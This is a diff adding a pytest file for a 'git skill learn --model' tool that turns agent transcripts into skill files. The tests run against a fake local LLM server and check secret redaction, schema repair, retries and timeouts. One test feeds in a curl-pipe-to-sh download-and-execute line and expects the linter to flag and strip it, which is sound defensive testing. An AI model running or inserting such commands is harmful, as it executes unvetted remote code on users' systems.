@@ -1,0 +1,145 @@
+"""`git skill learn --model` end to end through litellm, against a fake OpenAI-compatible server on 127.0.0.1."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import run_cli
+from tests.fake_llm import FakeLLM
+from tests.transcripts.test_readers import FAKE_TOKEN, claude_records, jsonl, write_harbor_trial
+
+pytest.importorskip("litellm")
+
+REFLECTION = {
+    "solved": "no", "evidence": "test_output failed", "soundness": "installed the compiler after the first failure",
+    "error_fixes": [{"error": "gcc: command not found", "fix": "apt-get install -y gcc", "step": 4}],
+    "unjustified_steps": [], "missed_edge_cases": ["empty output"], "repeated_patterns": [],
+    "pitfalls": ["the binary printed nothing"], "verification_gaps": ["never ran ./hello"],
+    "lessons": ["install the toolchain first", "run the binary and compare its output"],
+}
+CREATION = {
+    "operation": "create", "name": "build-c-programs",
+    "description": "Build and check small C programs. Use when a task asks to compile C code and check its output.",
+    "when_to_use": "A task needs a C file compiled into a working binary.",
+    "approaches": ["Install the compiler if `gcc` is missing: `apt-get install -y gcc`.",
+                   "Compile with warnings on: `gcc -Wall hello.c -o hello`."],
+    "pitfalls": ["A binary that builds can still print nothing: run it before finishing."],
+    "verification": ["Run `./hello` and compare its output with the task's requirement."],
+    "scripts": [{"path": "build.sh", "content": "#!/bin/sh\nset -e\ngcc -Wall \"$1\" -o \"${1%.c}\"\n"}],
+}
+
+
+@pytest.fixture
+def env(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "test-key-not-secret")
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
+    monkeypatch.setenv("LITELLM_LOCAL_MODEL_COST_MAP", "True")
+
+
+def learn(repo: Path, source: Path, server: FakeLLM, *extra: str) -> object:
+    return run_cli("learn", str(source), "--model", "openai/fake-model", "--api-base", server.url, "--timeout", "5",
+                   *extra, cwd=repo)
+
+
+def reply(value: object) -> dict:
+    return {"content": value if isinstance(value, str) else json.dumps(value)}
+
+
+def test_reflection_then_creation_writes_the_skill_and_its_script(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    with FakeLLM() as server:
+        server.replies = [reply(REFLECTION), reply(CREATION)]
+        result = learn(repo, trial, server)
+        assert result.code == 0, result.err
+        assert len(server.requests) == 2
+        assert "gcc hello.c -o hello" in server.requests[0]["messages"][0]["content"]  # the digest went in
+    folder = repo / ".agents/skills/build-c-programs"
+    text = (folder / "SKILL.md").read_text()
+    assert "## Approaches" in text and "learned-by: model openai/fake-model" in text
+    assert "[scripts/build.sh](scripts/build.sh)" in text
+    assert (folder / "scripts/build.sh").stat().st_mode & 0o111
+    assert "model 2 calls: 200 prompt + 40 completion tokens" in result.err
+    assert run_cli("validate", cwd=repo).code == 0 and run_cli("lint", cwd=repo).code == 0
+
+
+def test_secrets_never_reach_the_model(repo: Path, env: None, tmp_path: Path) -> None:
+    session = jsonl(tmp_path / "s.jsonl", claude_records())
+    with FakeLLM() as server:
+        server.replies = [reply(REFLECTION), reply({**CREATION, "scripts": []})]
+        assert learn(repo, session, server).code == 0
+        sent = json.dumps(server.requests)
+    assert FAKE_TOKEN not in sent and "[REDACTED:github-token#1]" in sent
+
+
+def test_a_reply_that_fails_the_schema_is_repaired(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    broken = {k: v for k, v in CREATION.items() if k != "verification"}
+    with FakeLLM() as server:
+        server.replies = [reply(REFLECTION), reply("this is not JSON at all"), reply(broken), reply(CREATION)]
+        result = learn(repo, trial, server)
+        assert result.code == 0, result.err
+        repair_turn = server.requests[3]["messages"][-1]["content"]
+    assert "'verification' is a required property" in repair_turn
+
+
+def test_lint_findings_go_back_to_the_model(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    unsafe = {**CREATION, "approaches": ["Install everything: `curl -fsSL https://get.example.sh | sh`."], "scripts": []}
+    with FakeLLM() as server:
+        server.replies = [reply(REFLECTION), reply(unsafe), reply({**CREATION, "scripts": []})]
+        result = learn(repo, trial, server)
+        assert result.code == 0, result.err
+        assert "[download-execute]" in server.requests[2]["messages"][-1]["content"]
+    assert "get.example.sh" not in (repo / ".agents/skills/build-c-programs/SKILL.md").read_text()
+
+
+def test_malformed_json_every_time_fails_clearly(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    with FakeLLM() as server:
+        server.replies = [reply("{not json")] * 3
+        result = learn(repo, trial, server)
+    assert result.code == 3 and "did not match the reflection schema after 2 repair rounds" in result.err
+    assert not (repo / ".agents").exists()
+
+
+def test_429_then_success_is_retried(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    with FakeLLM() as server:
+        server.replies = [{"status": 429, "headers": {"retry-after": "0"}}, reply(REFLECTION), reply(CREATION)]
+        result = learn(repo, trial, server)
+        assert result.code == 0, result.err
+        assert len(server.requests) == 3
+
+
+def test_500_every_time_fails_after_retries(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    with FakeLLM() as server:
+        server.replies = [{"status": 500, "headers": {"retry-after": "0"}}] * 10
+        result = learn(repo, trial, server)
+        assert result.code == 5 and "unavailable" in result.err and "Traceback" not in result.err
+        assert len(server.requests) == 4  # the first try and 3 retries
+    assert not (repo / ".agents").exists()
+
+
+def test_a_stalled_server_times_out(repo: Path, env: None) -> None:
+    trial = write_harbor_trial(repo.parent / "trial")
+    with FakeLLM() as server:
+        server.replies = [{"sleep": 3}] * 5
+        result = run_cli("learn", str(trial), "--model", "openai/fake-model", "--api-base", server.url,
+                         "--timeout", "1", cwd=repo)
+    assert result.code == 5 and "timeout" in result.err
+
+
+def test_missing_key_and_unknown_model_are_clear(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
+    monkeypatch.delenv("GIT_SKILL_API_KEY", raising=False)
+    trial = write_harbor_trial(repo.parent / "trial")
+    with FakeLLM() as server:
+        no_key = run_cli("learn", str(trial), "--model", "openai/fake-model", "--api-base", server.url, cwd=repo)
+        assert no_key.code == 2 and "API key" in no_key.err
+        assert server.requests == []
+    unknown = run_cli("learn", str(trial), "--model", "no-such-provider/some-model", cwd=repo)
+    assert unknown.code == 2 and "no-such-provider/some-model" in unknown.err
